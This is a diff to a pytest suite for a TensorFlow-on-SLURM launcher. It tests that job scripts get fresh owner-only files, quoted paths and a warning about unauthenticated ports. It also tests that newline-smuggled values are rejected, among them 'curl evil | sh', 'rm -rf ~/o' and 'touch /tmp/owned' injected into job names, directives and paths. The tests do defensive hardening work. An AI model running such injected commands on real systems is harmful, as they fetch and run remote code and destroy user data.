@@ -4,6 +4,7 @@ import contextlib
 import json
 import os
 import re
+import stat
 import sys
 
 import pytest
@@ -48,7 +49,7 @@ def test_multi_worker_recipe_trains_under_sbatch(slurm, tmp_path):
       "launch", "--slurm", "--workers=2", "--timeout=300", f"--workdir={tmp_path}", "--",
       sys.executable, f"{helpers.REPO}/strategies/multi_worker_mirrored.py"), timeout=400,
       env={"SLURM_CONF": slurm.conf})
-  assert (tmp_path / "tfdist-job.sbatch").exists()
+  assert len(list(tmp_path.glob("tfdist-job-*.sbatch"))) == 1
   assert result.returncode == 0, result.stdout[-3000:]
   assert re.search(r"SLURM job \d+ ended COMPLETED, exit code 0", result.stdout)
   finals = dict(re.findall(r"^(\d): worker:\d (final loss .*)$", result.stdout, re.M))
@@ -110,13 +111,46 @@ def test_two_jobs_on_one_node_at_once_get_different_ports(slurm, tmp_path):
 @pytest.mark.slow
 @pytest.mark.slurm
 def test_a_failing_job_returns_its_exit_code(slurm, tmp_path):
+  workdir = tmp_path / "a user's $HOME"  # Quoted wherever the script names it.
+  workdir.mkdir()
+  (workdir / "tfdist-job.sbatch").symlink_to(tmp_path / "not-followed")  # Once a fixed name.
   result = helpers.run(helpers.tfdist_cli(
-      "launch", "--slurm", "--workers=2", "--timeout=120", f"--workdir={tmp_path}", "--",
+      "launch", "--slurm", "--workers=2", "--timeout=120", f"--workdir={workdir}", "--",
       sys.executable, "-c",
       "import os, sys; print('rank', os.environ['SLURM_PROCID']); sys.exit(3)"),
       timeout=200, env={"SLURM_CONF": slurm.conf})
   assert result.returncode == 3, result.stdout[-3000:]
   assert re.search(r"SLURM job \d+ ended FAILED, exit code 3", result.stdout)
+  # The launch names the ports every host that reaches the node can reach, and the fix.
+  # This cluster reserves ports per step (tests/slurm_cluster.py: MpiParams=ports=).
+  assert "[tfdist launch] TensorFlow's servers of this job listen on ports in 30000-30999 " \
+      "(SLURM's MpiParams=ports=), and any free port for a tf.data service, of every " \
+      "interface of its nodes, without authentication" in result.stdout
+  assert "Fix: run the nodes on a fabric only the cluster's own hosts reach" in result.stdout
+  # The script's copy: a fresh name, readable by its owner only; the old name untouched.
+  scripts = list(workdir.glob("tfdist-job-*.sbatch"))
+  assert len(scripts) == 1 and stat.S_IMODE(scripts[0].stat().st_mode) == 0o600
+  assert not (tmp_path / "not-followed").exists()
+  assert re.search(r"rank [01]", result.stdout)  # The job's output, from the quoted path.
+
+
+def test_job_names_directives_and_paths_stay_on_their_line():
+  with pytest.raises(ValueError, match=r"`job_name` must be 1-64 letters, digits, .* "
+                     r"Received: job_name='x\\ntouch /tmp/owned'"):
+    sbatch.render(["true"], ntasks=1, output="o", job_name="x\ntouch /tmp/owned")
+  with pytest.raises(ValueError, match=r"--sbatch \(extra_directives\[1\]\) must be one sbatch "
+                     r"option on one line, e.g. --sbatch=--partition=gpu; .* "
+                     r"Received: '--partition=gpu\\ncurl evil \| sh'"):
+    sbatch.render(["true"], ntasks=1, output="o",
+                  extra_directives=["--time=5", "--partition=gpu\ncurl evil | sh"])
+  with pytest.raises(ValueError, match=r"must be one sbatch option .* Received: 'partition=gpu'"):
+    sbatch.render(["true"], ntasks=1, output="o", extra_directives=["partition=gpu"])
+  with pytest.raises(ValueError, match=r"must not hold a newline.* Received: '/w\\nrm -rf ~/o'"):
+    sbatch.render(["true"], ntasks=1, output="/w\nrm -rf ~/o")
+  script = sbatch.render(["true"], ntasks=1, output="/a b/$x-%j.out", data_workers=1,
+                         data_work_dir="/j $y")
+  assert "#SBATCH --output='/a b/$x-%j.out'" in script
+  assert "--output='/a b/$x-%j.out.dispatcher'" in script and "--work_dir='/j $y'" in script
 
 
 def test_no_slurm_here_is_a_clear_error(tmp_path):
